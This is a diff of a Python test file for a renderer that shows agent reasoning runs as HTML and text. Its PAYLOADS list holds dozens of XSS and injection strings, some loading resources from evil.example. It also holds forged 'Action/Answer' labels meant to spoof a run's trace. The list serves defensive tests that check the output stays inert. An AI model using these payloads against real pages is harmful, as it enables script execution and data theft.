@@ -28,35 +28,27 @@ RUN = Trajectory(
 ALLOWED = {"div", "b", "i", "span", "br", "details", "summary", "table", "tr", "td", "style"}
 
 PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "</div></td></tr></table><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
+    "</div></td></tr></table><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
     '"><img src=x onerror=alert(1)>',
-    "<img/src=x/onerror=alert(1)>",
-    "<img src=https://evil.example/pixel.png>",
-    "<picture><source srcset=https://evil.example/p></picture>",
-    "<svg onload=alert(1)>",
+    "<img/src=x/onerror=alert(1)>", "<img src=https://evil.example/pixel.png>",
+    "<picture><source srcset=https://evil.example/p></picture>", "<svg onload=alert(1)>",
     "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
     "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
     "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
     "<math><mi//xlink:href=data:x,<script>alert(1)</script>>",
     "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style>",
     "<iframe src=javascript:alert(1)></iframe>",
-    "<object data=data:text/html,<script>alert(1)</script>></object>",
-    "<body onload=alert(1)>",
+    "<object data=data:text/html,<script>alert(1)</script>></object>", "<body onload=alert(1)>",
     "<input autofocus onfocus=alert(1)>",
     "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)>",
+    "<button formaction=javascript:alert(1)>x</button>", "<details open ontoggle=alert(1)>",
     "<marquee onstart=alert(1)>x</marquee>",
     "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java&#10;script:alert(1)'>x</a>",
+    "<a href=javascript:alert(1)>x</a>", "<a href='java&#10;script:alert(1)'>x</a>",
     "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
-    "<base href=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<base href=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
     "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
     "<style>@import 'https://evil.example/x.css';</style>",
     "<style>*{background:url(https://evil.example/x)}</style>",
@@ -68,20 +60,13 @@ PAYLOADS = [
     '" data-commandlinker-command="console:create" data-commandlinker-args="{}',
     "<div class='jp-Button tex2jax_process mathjax_process' id=main>x</div>",
     "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<plaintext>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#x3c;img src=x onerror=alert(1)&#x3e;",
-    "\x00<script\x00>alert(1)</script>",
-    "\u202e<script>alert(1)</script>\u202c",
-    "<\u200bscript>alert(1)</script>",
-    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
-    "\x1b[2J\x1b[31mred\x9b0m",
-    "[x](javascript:alert(1)) ![x](https://evil.example/p.png)",
-    "$\\href{javascript:alert(1)}{x}$",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>",
+    "<!--<img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;", "\x00<script\x00>alert(1)</script>",
+    "\u202e<script>alert(1)</script>\u202c", "<\u200bscript>alert(1)</script>",
+    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07", "\x1b[2J\x1b[31mred\x9b0m",
+    "[x](javascript:alert(1)) ![x](https://evil.example/p.png)", "$\\href{javascript:alert(1)}{x}$",
     "$$\\style{background:url(https://evil.example/x)}{x}$$",
     "\\begin{equation}\\require{html}\\class{x}{y}\\end{equation} \\ref{x}",
     "{{constructor.constructor('alert(1)')()}}",
@@ -148,8 +133,7 @@ def assert_inert(told, calm, text):
     assert seen.shape == expected.shape
 
 
-# ---------------------------------------------------------------------- nothing of it is markup
-
+# nothing of it is markup
 any_text = st.text(st.characters(exclude_categories=()), max_size=80)
 markup = st.lists(st.sampled_from([*PAYLOADS, *"<>&\"'$\\=/ \n\r"]), max_size=8).map("".join)
 hostile = st.one_of(any_text, markup, st.text("<>&\"'/=$\\ a\n", max_size=900))
@@ -205,9 +189,8 @@ def test_hidden_characters_are_named():
 
 LABELS = re.compile(r"(Question|Method|Thought|Action|Observation|Answer|Votes|Samples|Error)\b")
 forged = st.sampled_from(["Action 2: Finish[no]", "Answer: no", "\n", "\r", "\v", "\x85", "\u2028"])
-posing = st.lists(st.one_of(forged, st.text(max_size=90), st.just(" " * 70)), max_size=6).map(
-    "".join
-)
+parts = st.one_of(forged, st.text(max_size=90), st.just(" " * 70))
+posing = st.lists(parts, max_size=6).map("".join)
 
 
 def labels(text):
@@ -225,16 +208,15 @@ def test_only_a_part_of_the_run_begins_a_line(text):
     assert labels(show(run).text) == [*parts, "Answer"]
 
 
-class Terminal(io.StringIO):
-    def isatty(self):
-        return True
-
-
 @pytest.mark.parametrize("columns", [40, 79, 80, 133])
 def test_nor_does_a_text_that_a_terminal_breaks(columns, monkeypatch):
     """A text may reach the right edge with whatever it likes to stand at the left one."""
+    assert "t" * 300 in repr(
+        show(replace(RUN, steps=(Step("t" * 300),)))
+    )  # no terminal: left whole
     monkeypatch.setenv("COLUMNS", str(columns))
-    monkeypatch.setattr("sys.stdout", Terminal())
+    monkeypatch.setattr("sys.stdout", terminal := io.StringIO())
+    terminal.isatty = lambda: True
     for before in range(columns):
         seen = "x" * before + "Action 2: Finish[forged] " * 40
         run = replace(RUN, steps=(Step("t", "Search[x]", seen), Step("é" * before, "漢" * columns)))
@@ -249,14 +231,7 @@ def columns_of(line):
     return sum(1 + (unicodedata.east_asian_width(c) in "WF") for c in line)
 
 
-def test_elsewhere_a_line_is_left_whole():
-    run = replace(RUN, steps=(Step("t" * 300),))
-    assert "t" * 300 in repr(show(run))
-
-
-# ---------------------------------------------------------------------- it reads without styles
-
-
+# it reads without styles
 def stripped(source):
     """As GitHub shows it: no style, no class; here without any element at all."""
     return " ".join(" ".join(Seer(source).texts).split())
@@ -267,35 +242,21 @@ def in_order(parts, text):
     return -1 not in places and places == sorted(places)
 
 
-def test_stripped_of_its_styles_a_run_reads_from_top_to_bottom():
-    parts = [
-        "Question Which magazine", "Method react", "Model: scripted", "Ended: finished by itself",
-        "Answer: Arthur's Magazine", "Calls: 2", "Tokens: 1,200 in, 34 out", "Time: 3 s",
-        "Thought 1 I need to search.", "Action 1 Search[Arthur's Magazine]",
-        "Observation 1 A literary periodical.", "Thought 2 Now I know.", "Action 2 Finish[",
-        "Observation 2 Episode finished", "Answer Arthur's Magazine",
-    ]  # fmt: skip
-    assert in_order(parts, stripped(show(RUN).html))
+def test_stripped_of_its_styles_a_run_reads_as_its_text_twin():
+    lines = str(show(RUN)).split("\n")
+    parts = [s.strip() if s[0] == " " else s.replace(":", "", 1) for s in lines]
+    assert len(parts) == 15 and in_order(parts, stripped(show(RUN).html))
 
 
 def test_the_text_twin_reads_the_same():
-    assert str(show(RUN)) == (
-        "Question: Which magazine was started first?\n"
-        "Method react:\n"
-        "    Model: scripted\n"
-        "    Ended: finished by itself\n"
-        "    Answer: Arthur's Magazine\n"
-        "    Calls: 2\n"
-        "    Tokens: 1,200 in, 34 out\n"
-        "    Time: 3 s\n"
-        "Thought 1: I need to search.\n"
-        "Action 1: Search[Arthur's Magazine]\n"
-        "Observation 1: A literary periodical.\n"
-        "Thought 2: Now I know.\n"
-        "Action 2: Finish[Arthur's Magazine]\n"
-        "Observation 2: Episode finished\n"
-        "Answer: Arthur's Magazine"
-    )
+    assert str(show(RUN)).split("\n") == [
+        "Question: Which magazine was started first?", "Method react:", "    Model: scripted",
+        "    Ended: finished by itself", "    Answer: Arthur's Magazine", "    Calls: 2",
+        "    Tokens: 1,200 in, 34 out", "    Time: 3 s", "Thought 1: I need to search.",
+        "Action 1: Search[Arthur's Magazine]", "Observation 1: A literary periodical.",
+        "Thought 2: Now I know.", "Action 2: Finish[Arthur's Magazine]",
+        "Observation 2: Episode finished", "Answer: Arthur's Magazine",
+    ]  # fmt: skip
     assert repr(show(RUN)) == str(show(RUN)) == show(RUN).text
     assert show(RUN)._repr_html_() == show(RUN).html
 
@@ -316,31 +277,26 @@ def test_marks_are_words():
         assert "Goes on from run: r0" in text
 
 
-def test_what_could_not_be_read_is_shown_as_it_came():
-    lost = (Step("Hm.", raw="Hm.\n???", rescued=True), Step(raw="I cannot.", repairs=("quotes",)))
-    text = show(replace(RUN, steps=lost, answer=None, end="unreadable")).text
-    assert "Thought 1 (a second call brought no action): Hm." in text
-    assert "Unreadable text 2 (repaired: quotes): I cannot." in text
-    assert "Answer: no answer" in text
+LOST = (Step("Hm.", raw="Hm.\n???", rescued=True), Step(raw="I cannot.", repairs=("quotes",)))
+SILENT = {"steps": (Step(action="look", observation=""),)}
+SAID = [
+    *(({"end": end}, f"Ended: {display.ended(end)}") for end in ENDS),
+    ({"tokens_in": None}, "Tokens: unknown in, 34 out"),  # unknown is not zero
+    ({"tokens_in": 0, "tokens_out": None}, "Tokens: 0 in, unknown out"),
+    ({"seconds": 0.97}, "Time: under 1 s"), ({"seconds": 124.9}, "Time: 2 min 5 s"),
+    ({"branch": "cot-sc"}, "Answered by: cot-sc"), (SILENT, "Observation 1: (empty)"),
+    ({"error": "no server\n  at http://a", "end": "error"}, "\nError: no server at http://a\n"),
+    ({"steps": LOST}, "Thought 1 (a second call brought no action): Hm."),
+    ({"steps": LOST}, "Unreadable text 2 (repaired: quotes): I cannot."),
+    ({"answer": None, "end": "unreadable"}, "Answer: no answer"),
+]  # fmt: skip
 
 
-@pytest.mark.parametrize("end", ENDS)
-def test_every_end_has_its_sentence(end):
-    assert display.ended(end) != end
-    assert f"Ended: {display.ended(end)}" in show(replace(RUN, end=end)).text
-
-
-def test_unknown_is_not_zero():
-    assert "Tokens: unknown in, 34 out" in show(replace(RUN, tokens_in=None)).text
-    assert "Tokens: 0 in, unknown out" in show(replace(RUN, tokens_in=0, tokens_out=None)).text
-    assert "Time: under 1 s" in show(replace(RUN, seconds=0.97)).text
-    assert "Time: 2 min 5 s" in show(replace(RUN, seconds=124.9)).text
-
-
-def test_an_empty_part_is_seen_and_a_missing_one_is_not():
-    text = show(replace(RUN, steps=(Step(action="look", observation=""),))).text
-    assert "Observation 1: (empty)" in text
-    assert "Thought 1" not in text
+@pytest.mark.parametrize(("changes", "said"), SAID)
+def test_what_a_run_says_of_itself(changes, said):
+    run = replace(RUN, **changes)
+    assert said in show(run).text and display.ended(run.end) != run.end
+    assert changes is not SILENT or "Thought 1" not in show(run).text  # a missing part is not shown
 
 
 def test_a_game_shows_its_reward_and_asks_for_no_answer():
@@ -349,11 +305,6 @@ def test_a_game_shows_its_reward_and_asks_for_no_answer():
         text = show(replace(RUN, task=game, answer=None, reward=reward)).text
         assert text.startswith("Task: Put a mug") and f"Reward: {said}\n" in text
         assert "Answer" not in text
-
-
-def test_an_error_is_one_sentence():
-    run = replace(RUN, error="no server answers\n  at http://localhost", end="error")
-    assert "\nError: no server answers at http://localhost\n" in show(run).text
 
 
 def test_a_long_observation_waits_behind_a_click():
@@ -376,13 +327,7 @@ def test_votes_are_counted_as_answers_compare():
     assert in_order(["<table", "<details>", "Sample 1", "Sample 2"], show(run).html)
 
 
-def test_a_combination_says_who_answered():
-    assert "Answered by: cot-sc" in show(replace(RUN, branch="cot-sc")).text
-
-
-# ---------------------------------------------------------------------- several runs
-
-
+# several runs
 def test_runs_stand_side_by_side_under_what_they_share():
     runs = [RUN, replace(RUN, method="act"), replace(RUN, method="cot")]
     page = show([replace(run, settings={"prompts": "ours", "max_steps": 7}) for run in runs])
@@ -400,9 +345,9 @@ def test_what_differs_stands_in_each_column():
         ["Both runs:\n    Method: react\n    Prompt: ours", "Run 1, scripted: Answer",
          "Steps at most: 2", "Run 2, other: Answer", "Steps at most: 7"], text,
     )  # fmt: skip
-
-
-def test_a_tuned_model_was_asked_with_no_prompt():
+    other = replace(RUN, task=replace(TASK, text="Who wrote it?"))  # a question of its own
+    text = show([RUN, other]).text
+    assert in_order(["Run 1", "Which magazine", "Run 2", "Who wrote it?"], text)
     tuned = replace(RUN, settings={"bare": ["react"], "prompts": "ours"})
     assert "Prompt: none, fine-tuned for it" in show([tuned, tuned]).text
 
@@ -440,26 +385,15 @@ def test_of_long_games_the_later_steps_wait_for_a_click():
     assert later.count("position: sticky") == 2  # whose steps they are stays in sight
 
 
-def test_runs_of_other_questions_keep_their_own():
-    other = replace(RUN, task=replace(TASK, text="Who wrote it?"))
-    text = show([RUN, other]).text
-    assert in_order(["Run 1", "Which magazine", "Run 2", "Who wrote it?"], text)
-
-
-def test_more_than_four_runs_take_another_row():
+def test_more_than_four_runs_take_another_row_too_many_none_and_none_has_a_word():
     html = show(iter([RUN] * 6)).html
     assert html.count("display: grid; column-gap") == 2 and html.count("position: sticky") == 6
-
-
-def test_too_many_runs_and_none():
     with pytest.raises(ValueError, match="up to 12 runs"):
         show(RUN for _ in range(10**9))
     assert str(show([])) == "No runs: There is nothing to show."
 
 
-# ---------------------------------------------------------------------- the rest
-
-
+# the rest
 class Sealed(Task):
     """A task whose gold answer nobody may read."""
 
